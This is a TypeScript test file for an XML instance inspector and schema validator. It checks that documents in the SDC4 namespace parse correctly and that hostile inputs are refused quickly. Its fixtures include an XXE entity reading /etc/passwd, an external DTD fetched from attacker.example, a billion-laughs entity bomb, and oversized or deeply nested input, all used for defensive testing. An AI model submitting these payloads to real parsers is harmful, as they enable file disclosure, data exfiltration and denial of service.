import { decodeXmlBytes, inspectInstance, XmlParseError } from '../../../src/xml/instance';
import { compileSchema, type CompiledSchema } from '../../../src/xml/schema';
import { expectWithinBaseline, msOfSync } from '../../support/baseline';
import { offlineResolver, statePopulationXml, statePopulationXsd } from './fixtures';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<sdc4:dm-x xmlns:sdc4="https://semanticdatacharter.com/ns/sdc4/">&lol9;</sdc4:dm-x>`;

const HOSTILE: Array<[string, () => string, RegExp]> = [
  [
    'an external entity (XXE)',
    () => '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
    /DOCTYPE declarations are not allowed/,
  ],
  [
    'an external parameter entity',
    () => '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><r/>',
    /DOCTYPE declarations are not allowed/,
  ],
  ['billion laughs', () => BILLION_LAUGHS, /DOCTYPE declarations are not allowed/],
  ['an entity that was never declared', () => '<r>&undeclared;</r>', /undefined entity/],
  ['XML nested 100,000 deep', () => `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`, /Excessive depth/],
  ['a 10 MB text node', () => `<r>${'x'.repeat(10 * 1024 * 1024)}</r>`, /XML document is 10\.0 MB; the limit is 8\.0 MB/],
];

describe('inspectInstance', () => {
  it('reads the root of the StatePopulation example', () => {
    expect(inspectInstance(statePopulationXml())).toEqual({
      rootTag: 'sdc4:dm-its7j6bvrb9n2fxdcxmoemod',
      namespace: 'https://semanticdatacharter.com/ns/sdc4/',
      dmCtId: 'its7j6bvrb9n2fxdcxmoemod',
    });
  });

  it('gives no dm_ct_id for a root outside the SDC4 namespace or not named dm-{ct_id}', () => {
    expect(inspectInstance('<dm-abc/>').dmCtId).toBeNull();
    expect(inspectInstance('<x:dm-abc xmlns:x="urn:other"/>').dmCtId).toBeNull();
    expect(inspectInstance('<sdc4:ms-abc xmlns:sdc4="https://semanticdatacharter.com/ns/sdc4/"/>')).toMatchObject({
      rootTag: 'sdc4:ms-abc',
      dmCtId: null,
    });
  });

  it('reports the root tag seen before a well-formedness error, and null when there is no root', () => {
    const unclosed = catchParse(() => inspectInstance('<sdc4:dm-a xmlns:sdc4="https://semanticdatacharter.com/ns/sdc4/"><label>x</sdc4:dm-a>'));
    expect(unclosed.rootTag).toBe('sdc4:dm-a');
    expect(unclosed.message).toMatch(/unexpected close tag/);

    const empty = catchParse(() => inspectInstance('<?xml version="1.0"?>'));
    expect(empty.rootTag).toBeNull();
    expect(empty.message).toMatch(/root element/);
  });

  it.each(HOSTILE)('refuses %s with a clear error, quickly', (_name, make, message) => {
    const xml = make();
    const benign = msOfSync(() => inspectInstance(statePopulationXml()));
    let refusal = '';
    const hostile = msOfSync(() => (refusal = catchParse(() => inspectInstance(xml)).message));

    expect(refusal).toMatch(message);
    expectWithinBaseline(hostile, benign, 500);
  });

  it('refuses bytes that are not valid UTF-8', () => {
    const bytes = Buffer.concat([Buffer.from('<r>'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('</r>')]);

    expect(catchParse(() => inspectInstance(bytes)).message).toMatch(/not valid UTF-8/);
  });

  it('decodes bytes in the encoding their XML declaration names', () => {
    const latin1 = Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><r>caf\xe9</r>', 'latin1');

    expect(decodeXmlBytes(latin1)).toContain('<r>café</r>');
  });
});

describe('CompiledSchema.validate on hostile input', () => {
  let schema: CompiledSchema;

  beforeAll(async () => {
    schema = await compileSchema(statePopulationXsd(), offlineResolver());
  });

  it.each(HOSTILE)('refuses %s with XmlParseError', (_name, make) => {
    expect(() => schema.validate(make())).toThrow(XmlParseError);
  });

  it('keeps working after hostile input (nothing leaked into the validator)', () => {
    for (const [, make] of HOSTILE) expect(() => schema.validate(make())).toThrow(XmlParseError);
    expect(schema.validate(statePopulationXml())).toEqual([]);
  });
});

function catchParse(run: () => unknown): XmlParseError {
  try {
    run();
  } catch (error) {
    if (error instanceof XmlParseError) return error;
    throw error;
  }
  throw new Error('expected an XmlParseError');
}
